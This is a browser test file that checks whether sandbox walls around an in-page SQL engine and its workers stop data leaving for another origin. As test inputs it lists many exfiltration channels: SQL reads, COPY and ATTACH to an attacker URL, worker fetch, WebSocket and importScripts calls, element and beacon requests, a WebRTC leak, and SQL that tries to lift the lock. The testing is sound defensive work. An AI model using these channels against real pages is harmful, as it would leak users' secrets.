import { createSocket } from 'node:dgram';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { listen, type Attacker } from './helpers/attacker.ts';
import { launch } from './helpers/chromium.ts';
import { serve, type StaticServer } from './helpers/static-server.ts';

interface Hands {
  ready(): Promise<void>;
  engineSql(text: string): Promise<string>;
  engineStatement(text: string): Promise<string>;
  locality(): { blocked: number; requests: number };
}

/** Ways of SQL to another origin: as a query, or as a statement of its own. */
const sqlAttacks = (url: string): readonly (readonly [how: 'engineSql' | 'engineStatement', text: string])[] => [
  ['engineSql', `SELECT * FROM read_csv('${url}/read_csv?d=SECRET')`],
  ['engineSql', `SELECT * FROM read_text('${url}/read_text?d=SECRET')`],
  ['engineSql', `SELECT * FROM read_blob('${url}/read_blob?d=SECRET')`],
  ['engineSql', `FROM '${url}/from.csv?d=SECRET'`],
  ['engineStatement', `COPY (SELECT 'SECRET' AS d) TO '${url}/copy.csv'`],
  ['engineStatement', `ATTACH '${url}/attach.db?d=SECRET' AS other`],
  ['engineStatement', `INSTALL secret FROM '${url}/install'`],
  ['engineStatement', `LOAD '${url}/load.duckdb_extension.wasm'`],
  ['engineStatement', `SELECT json_extract('{}', 'autoload')`],
];

/** Ways of script inside the page's workers, as an injected script would try them. */
const WORKER_SCRIPT = `(async (url) => {
  const tries = [
    () => fetch(url + '/fetch?d=SECRET'),
    () => new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open('GET', url + '/xhr?d=SECRET'); x.onload = ok; x.onerror = no; x.send(); }),
    () => new Promise((ok, no) => { const s = new WebSocket(url.replace('http', 'ws') + '/ws?d=SECRET'); s.onopen = ok; s.onerror = no; }),
    () => new Promise((ok, no) => { const s = new EventSource(url + '/events?d=SECRET'); s.onopen = ok; s.onerror = no; }),
    async () => importScripts(url + '/import.js?d=SECRET'),
    () => WorkerGlobalScope.prototype.fetch.call(self, url + '/prototype?d=SECRET'),
    async () => (await caches.open('x')).add(url + '/cache?d=SECRET'),
  ];
  const outcomes = [];
  for (const attempt of tries) {
    try { await Promise.race([attempt(), new Promise((_, no) => setTimeout(() => no(new Error('silence')), 1500))]); outcomes.push('through'); }
    catch (error) { outcomes.push('refused'); }
  }
  return outcomes;
})`;

let browser: Browser;
let server: StaticServer;
let attacker: Attacker;

beforeAll(async () => {
  browser = await launch();
  server = await serve(`${process.cwd()}/dist-walls`);
});

afterAll(async () => {
  await browser.close();
  await server.close();
});

beforeEach(async () => {
  attacker = await listen();
  return () => attacker.close();
});

async function opened(walls: string): Promise<Page> {
  const page = await (await browser.newContext()).newPage();
  await page.goto(`${server.url}test/browser/walls/index.html?${walls}`);
  await page.evaluate(() => (window as unknown as Hands).ready());
  return page;
}

async function attackBySql(page: Page): Promise<string[]> {
  const outcomes: string[] = [];
  for (const [how, text] of sqlAttacks(attacker.url)) {
    const outcome = await page.evaluate(
      ([how, text]) =>
        Promise.race([
          (window as unknown as Hands)[how](text),
          new Promise<string>((resolve) => setTimeout(() => resolve('no answer'), 5000)),
        ]),
      [how, text] as const,
    );
    outcomes.push(outcome);
  }
  return outcomes;
}

async function attackFromWorkers(page: Page): Promise<string[]> {
  const outcomes: string[] = [];
  for (const worker of page.workers())
    outcomes.push(...((await worker.evaluate(`${WORKER_SCRIPT}(${JSON.stringify(attacker.url)})`)) as string[]));
  return outcomes;
}

const attackFromPage = (page: Page): Promise<string> =>
  page.evaluate(async (url) => {
    try {
      await fetch(`${url}/page?d=SECRET`);
      return 'through';
    } catch {
      return 'refused';
    }
  }, attacker.url);

/** Ways of an injected script to let elements make a request; gives how many were tried. */
async function tryElements(base: string): Promise<number> {
  const url = (name: string): string => `${base}${name}?d=SECRET`;
  const add = (tag: string, attributes: Record<string, string>): void => {
    document.body.append(Object.assign(document.createElement(tag), attributes));
  };
  for (const rel of ['stylesheet', 'modulepreload', 'prefetch', 'preload', 'icon', 'manifest', 'preconnect'])
    add('link', { rel, href: url(rel), as: 'image' });
  for (const tag of ['img', 'video', 'audio']) add(tag, { src: url(tag) });
  add('style', { textContent: `@import '${url('import.css')}'; body { background: url('${url('background')}') }` });
  navigator.sendBeacon(url('beacon'));
  void new FontFace('x', `url('${url('font')}')`).load().catch(() => undefined);
  await new Promise((resolve) => setTimeout(resolve, 1500));
  return 13;
}

/** The way of an injected script to a peer. */
async function tryPeers(port: number): Promise<void> {
  try {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
    peer.createDataChannel('secret');
    await peer.setLocalDescription(await peer.createOffer());
  } catch {
    // Refused: the listener tells whether anything came through.
  }
  await new Promise((resolve) => setTimeout(resolve, 1500));
}

describe('without any wall', () => {
  it('SQL and script do reach another origin: the attacks below are real', async () => {
    const page = await opened('');
    await attackBySql(page);
    await attackFromWorkers(page);
    await attackFromPage(page);
    const paths = attacker.hits.map((hit) => hit.replace(/\?.*/, ''));
    expect(paths).toEqual(
      expect.arrayContaining([
        'GET /read_csv',
        'GET /fetch',
        'GET /xhr',
        'UPGRADE /ws',
        'GET /events',
        'GET /import.js',
        'GET /prototype',
        'GET /cache',
        'GET /page',
      ]),
    );
  });
});

describe('the engine lock alone', () => {
  it('refuses SQL every way to another origin, and the engine goes on', async () => {
    const page = await opened('lock');
    const outcomes = await attackBySql(page);
    expect(attacker.hits).toEqual([]);
    expect(outcomes.filter((o) => o.includes('engine-lost') || o === 'no answer')).toEqual([]);
    expect(await page.evaluate(() => (window as unknown as Hands).engineStatement('SELECT 42 AS alive'))).toBe('ran');
  });

  it('cannot be undone by SQL', async () => {
    const page = await opened('lock');
    for (const statement of [
      'SET enable_external_access=true',
      'SET lock_configuration=false',
      'RESET lock_configuration',
      "SET allowed_directories=['/']",
      'PRAGMA enable_external_access',
      'SET autoload_known_extensions=true',
    ]) {
      expect(await page.evaluate((text) => (window as unknown as Hands).engineStatement(text), statement), statement).not.toBe('ran');
    }
  });
});

describe('the sealed policy alone', () => {
  it('refuses SQL, the workers’ scripts and the page’s own every way to another origin', async () => {
    const page = await opened('policy');
    await attackBySql(page);
    const fromWorkers = await attackFromWorkers(page);
    expect(await attackFromPage(page)).toBe('refused');
    expect(attacker.hits).toEqual([]);
    expect(new Set(fromWorkers)).toEqual(new Set(['refused']));
    expect(page.workers().length).toBeGreaterThan(0);
  });

  it('refuses the page its own host too, and counts the attempt', async () => {
    const page = await opened('policy');
    const before = server.requests.length;
    const outcome = await page.evaluate(() =>
      fetch('./index.html').then(
        () => 'through',
        () => 'refused',
      ),
    );
    expect(outcome).toBe('refused');
    expect(server.requests.length).toBe(before);
    await expect.poll(() => page.evaluate(() => (window as unknown as Hands).locality().blocked)).toBe(1);
  });

  it.for(['own', 'other'])('refuses links, styles, fonts, scripts and pictures to its %s host', async (host) => {
    const page = await opened('policy');
    const before = server.requests.length;
    const base = host === 'own' ? server.url : `${attacker.url}/`;
    await page.evaluate(`void import('${base}module.js?d=SECRET').catch(() => undefined)`);
    const tried = await page.evaluate(tryElements, base);
    expect(tried).toBeGreaterThan(8);
    expect(server.requests.slice(before)).toEqual([]);
    expect(attacker.hits).toEqual([]);
  });

  it.for(['policy', ''])('leaves no way to a peer (walls: “%s”; without any the attack is real)', async (walls) => {
    const socket = createSocket('udp4');
    let packets = 0;
    socket.on('message', () => packets++);
    await new Promise<void>((resolve) => socket.bind(0, '127.0.0.1', resolve));
    const page = await opened(walls);
    await page.evaluate(tryPeers, socket.address().port);
    if (walls === '') await expect.poll(() => packets).toBeGreaterThan(0);
    else expect(packets).toBe(0);
    socket.close();
  });
});

describe('workers without a network alone', () => {
  it('refuse SQL and script every way to another origin', async () => {
    const page = await opened('network');
    await attackBySql(page);
    const fromWorkers = await attackFromWorkers(page);
    expect(attacker.hits).toEqual([]);
    expect(new Set(fromWorkers)).toEqual(new Set(['refused']));
  });

  it('report what they refused', async () => {
    const page = await opened('network');
    await attackFromWorkers(page);
    await expect.poll(() => page.evaluate(() => (window as unknown as Hands).locality().blocked)).toBeGreaterThan(0);
  });
});
